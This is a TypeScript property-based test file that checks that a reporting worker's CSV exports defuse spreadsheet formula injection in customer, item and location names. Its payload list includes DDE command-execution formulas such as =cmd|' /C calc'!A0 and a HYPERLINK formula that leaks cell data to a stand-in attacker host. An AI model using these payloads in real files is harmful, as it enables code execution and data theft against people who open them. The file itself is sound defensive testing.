// CSV exports of hostile names (issue 8, item 5): customer names, emails and phones, item names and
// location names made of spreadsheet formulas (=cmd|' /C calc'!A0, +, -, @), quotes, commas,
// semicolons, Unicode (right-to-left override, emoji, combining marks) and blank-looking white
// space, exported through the worker exactly as in production (graphile-worker's runOnce with the
// real export_csv task). Every file must parse as strict RFC 4180 CSV with one record per row,
// each name must come back as stored (with a leading ' when it would start a formula), and no
// cell may start a formula in a spreadsheet.
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { taskList } from "../../worker/tasks/index.ts";
import { createTestDatabase, type TestDatabase } from "../helpers/db.ts";
import { runJobsOnce } from "../helpers/worker.ts";
import { line, openReportingShop, placeOrder } from "../db/reporting/helpers.ts";
import { csvObjects, parseCsv, withoutBom } from "../worker/reporting/csv.ts";

let db: TestDatabase;
beforeAll(async () => {
  db = await createTestDatabase();
});
afterAll(() => db?.drop());

/** A spreadsheet runs a cell as a formula when it starts with one of these (after any white space). */
const FORMULA_START = /^[\s\u00a0\u200b\ufeff]*[=+\-@\t\r]/;
/** What the export makes of a text value: a leading ' when it would start a formula. */
const defused = (s: string) => (FORMULA_START.test(s) ? `'${s}` : s);

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=1;=2",
  "\"=1\"",
  "'=already quoted",
  "O\"Brien, \"the elder\"",
  "Smith, Jr.; Esq.",
  "\u202egnp.exe",
  "Zoë 😀 e\u0301",
  "山田",
  "\u3000=1+1",
  "\u00a0+1",
  "-",
  "=",
];
const nameArb = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 2, arbitrary: fc.tuple(fc.constantFrom("=", "+", "-", "@", "", "\"", ","), fc.string({ unit: "binary", minLength: 1, maxLength: 20 })).map(([a, b]) => a + b) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 30 }) },
);

async function runExport(manager: { query: (sql: string, params?: unknown[]) => Promise<{ rows: any[] }> }, kind: string, params: unknown) {
  const { rows } = await manager.query("select id from reporting.request_export($1, $2::jsonb)", [kind, JSON.stringify(params)]);
  await runJobsOnce(db, { export_csv: taskList.export_csv });
  const row = (await db.owner.query("select status from reporting.exports where id = $1", [rows[0].id])).rows[0];
  expect(row.status).toBe("done");
  const chunks = await db.owner.query("select data from app_private.export_chunks where export_id = $1 order by chunk_no", [rows[0].id]);
  // Every file starts with one UTF-8 byte order mark (withoutBom throws otherwise).
  return withoutBom(Buffer.concat(chunks.rows.map((r) => r.data as Buffer)));
}

function expectNoFormula(text: string) {
  // parseCsv throws on anything that is not strict RFC 4180 CSV.
  for (const record of parseCsv(text)) {
    for (const cell of record) {
      // Numbers may be negative; every other cell that would start a formula is defused. A phone
      // is E.164 (a + and digits only, by its check constraint): kept as is for the import.
      if (/^-?[0-9]+(\.[0-9]+)?$/.test(cell) || /^\+[1-9][0-9]{6,14}$/.test(cell)) continue;
      expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
    }
  }
}

let tried = 0;
afterAll(() => console.log(`hostile export: ${tried} hostile names exported and read back`));

describe("CSV exports of hostile names", () => {
  it("customers export: names, emails and phones come back as stored, defused, in valid CSV", { timeout: 120_000 }, async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(nameArb, fc.option(nameArb, { nil: null })), { minLength: 5, maxLength: 15 }), async (names) => {
        const shop = await openReportingShop(db);
        const made: string[] = [];
        for (const [first, last] of names) {
          try {
            const { rows } = await shop.manager.query("select id from app_public.create_customer(first_name => $1, last_name => $2)", [first, last]);
            made.push(rows[0].id);
          } catch (e) {
            // Refused input (control characters, blank, too long) is the other properties' business.
            expect((e as { code?: string }).code).toMatch(/^(BADIN|22021)$/);
          }
        }
        // Customers known by email or phone alone: the display name is then the email or the phone.
        for (const email of ["=1+1@example.com", "+cmd@example.com", "-x@example.com", "'q'@example.com"]) {
          made.push((await shop.manager.query("select id from app_public.create_customer(email => $1)", [email])).rows[0].id);
        }
        made.push((await shop.manager.query("select id from app_public.create_customer(phone => '+1 917 555 0100')")).rows[0].id);
        tried += made.length;

        const text = await runExport(shop.manager, "customers", {});
        expectNoFormula(text);
        const rows = csvObjects(text);
        const stored = await db.owner.query("select customer_number, first_name, last_name, email, phone from app_public.customers where tenant_id = $1", [shop.tenantId]);
        const cell = (v: string | null) => defused(v ?? "");
        expect(rows.map((r) => [r.customer_number, r.first_name, r.last_name, r.email, r.phone]).sort()).toEqual(
          stored.rows.map((c) => [c.customer_number, cell(c.first_name), cell(c.last_name), cell(c.email), c.phone ?? ""]).sort(),
        );
      }),
      { numRuns: 3 },
    );
  });

  it("a value with white space before a formula is defused too (names carried by imported events)", async () => {
    // Invisible characters a spreadsheet ignores count as white space: U+2060 word joiner,
    // U+200B/U+200C/U+200D zero-width space and joiners, U+FEFF, U+200E/U+202E direction marks,
    // U+00AD soft hyphen, U+180E, U+FE0F variation selector, U+3164 Hangul filler.
    const invisible = ["\u2060", "\u200b", "\u200c", "\u200d", "\ufeff", "\u200e", "\u202e", "\u00ad", "\u180e", "\ufe0f", "\u3164"];
    for (const value of [" =1+1", "\u00a0+1", "\u3000@SUM(A1)", "\n-2+3", "\ufeff=1", "\t=1", "\r=1", ...invisible.map((c) => `${c}=HYPERLINK("x")`), "\u2060 \u200b=1"]) {
      const { rows } = await db.owner.query("select app_hidden.csv_text($1) as cell", [value]);
      expect(rows[0].cell).toBe(`'${value}`);
    }
    for (const value of ["Ann", "5% off", "a=b", "x-y", "", "'=1"]) {
      const { rows } = await db.owner.query("select app_hidden.csv_text($1) as cell", [value]);
      expect(rows[0].cell).toBe(value);
    }
  });

  it("item sales and inventory exports: hostile item and location names come back defused, in valid CSV", { timeout: 120_000 }, async () => {
    await fc.assert(
      fc.asyncProperty(fc.uniqueArray(nameArb, { minLength: 3, maxLength: 8, selector: (s) => s.trim().toLowerCase() }), nameArb, async (itemNames, locationName) => {
        const shop = await openReportingShop(db);
        // Stock is the inventory module's: Growth.
        await db.owner.query("update app_public.billing_subscriptions set plan_key = 'growth' where tenant_id = $1", [shop.tenantId]);
        let location = shop.locationId;
        try {
          await shop.owner.query("update app_public.locations set name = $1 where id = $2", [locationName, shop.locationId]);
        } catch {
          location = shop.locationId; // a name the database refuses keeps the old one
        }
        const sold: string[] = [];
        for (const [i, name] of itemNames.entries()) {
          try {
            const { rows } = await shop.manager.query("insert into app_public.catalog_items (name, sku, price) values ($1, $2, 100) returning id", [name, `SKU-${i}`]);
            await shop.manager.query("insert into app_public.inventory_items (name, catalog_item_id) values ($1, $2)", [name, rows[0].id]);
            sold.push(rows[0].id);
          } catch {
            // refused names are not this test's business
          }
        }
        if (sold.length === 0) return;
        await placeOrder(shop.owner, location, sold.map((id) => line(id, 1)));
        tried += sold.length + 1;
        const today = new Date();
        const from = new Date(today.getTime() - 2 * 86400_000).toISOString().slice(0, 10);
        const to = new Date(today.getTime() + 2 * 86400_000).toISOString().slice(0, 10);

        const items = await runExport(shop.manager, "item_sales", { from, to });
        expectNoFormula(items);
        const names = await db.owner.query("select name from app_public.catalog_items where tenant_id = $1", [shop.tenantId]);
        expect(csvObjects(items).map((r) => r.item).sort()).toEqual(names.rows.map((r) => defused(r.name)).sort());

        const stock = await runExport(shop.manager, "inventory", {});
        expectNoFormula(stock);
        const loc = (await db.owner.query("select name from app_public.locations where id = $1", [location])).rows[0].name;
        for (const r of csvObjects(stock)) expect(r.location).toBe(defused(loc));
      }),
      { numRuns: 3 },
    );
  });
});
